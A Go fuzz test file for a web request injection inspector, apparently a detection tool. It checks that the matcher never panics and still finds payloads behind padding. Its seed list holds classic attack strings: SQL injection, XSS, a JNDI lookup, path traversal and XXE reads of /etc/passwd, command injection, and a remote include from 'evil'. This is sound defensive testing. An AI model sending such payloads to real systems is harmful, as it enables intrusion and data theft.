package web

import (
	"strings"
	"testing"
)

// FuzzInspect: the injection matcher never panics, whatever the bytes, and
// reports at most one match per class with a printable fragment.
func FuzzInspect(f *testing.F) {
	for _, s := range []string{
		"id=1' union select 1,2--", "q=<svg/onload=alert(1)>", "${${lower:j}ndi:ldap://x/a}", "f=../../etc/passwd\x00",
		"h=8.8.8.8;id", "{{7*7}}", "(#_memberAccess)", "x=%00", "a' or 'x'='x", "case when (1=1) then", "`id`", "$(id)",
		"c=http://evil/x.txt?", "\r\nSet-Cookie: a=b", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "elt(1=1,1)", "/*", "'", "",
	} {
		f.Add(s, uint8(0))
		f.Add(s, uint8(1))
		f.Add(s, uint8(3))
	}
	var in Inspector
	f.Fuzz(func(t *testing.T, s string, field uint8) {
		out := in.Inspect(s, Field(field%4), nil)
		seen := map[Class]bool{}
		for _, m := range out {
			if seen[m.Class] || m.Class == ClassNone || m.Class >= classCount {
				t.Fatalf("%q: bad matches %+v", s, out)
			}
			seen[m.Class] = true
			if strings.ContainsAny(m.Fragment, "\x00\r\n") || len(m.Fragment) > 400 {
				t.Fatalf("%q: fragment %q not printable or too long", s, m.Fragment)
			}
		}
		// classifiers used on paths must not panic either
		_ = sensitive(strings.ToLower(s))
		_ = frameworkOf(strings.ToLower(s))
		_ = shellName("/" + s)
		_ = commandParam(s)
		_ = classifyUA(s)
	})
}

// FuzzInspectLong: long values never panic, fragments stay printable, and
// a payload Inspect finds on its own is still found behind padding of any
// length in another parameter.
func FuzzInspectLong(f *testing.F) {
	f.Add("id=1' union select 1,2--", uint16(5000), byte('A'))
	f.Add("q=<svg/onload=alert(1)>", uint16(4093), byte('&'))
	f.Add("f=../../etc/passwd", uint16(9000), byte('='))
	var in Inspector
	f.Fuzz(func(t *testing.T, s string, n uint16, c byte) {
		long := "pad=" + strings.Repeat(string(rune(c&0x7f)), int(n)) + "&" + s
		out := in.InspectLong(long, FieldQuery, nil)
		for _, m := range out {
			if m.Class == ClassNone || m.Class >= classCount || strings.ContainsAny(m.Fragment, "\x00\r\n") || len(m.Fragment) > 400 {
				t.Fatalf("bad match %+v", m)
			}
		}
		if strings.ContainsRune(s, '&') || len(s) > maxInspect || c&0x7f == '&' {
			return
		}
		found := map[Class]bool{}
		for _, m := range out {
			found[m.Class] = true
		}
		for _, m := range in.Inspect(s, FieldQuery, nil) {
			if !found[m.Class] && m.Class != ClassProbe {
				t.Fatalf("%q: %s found alone, not behind %d bytes of padding", s, m.Class, n)
			}
		}
	})
}
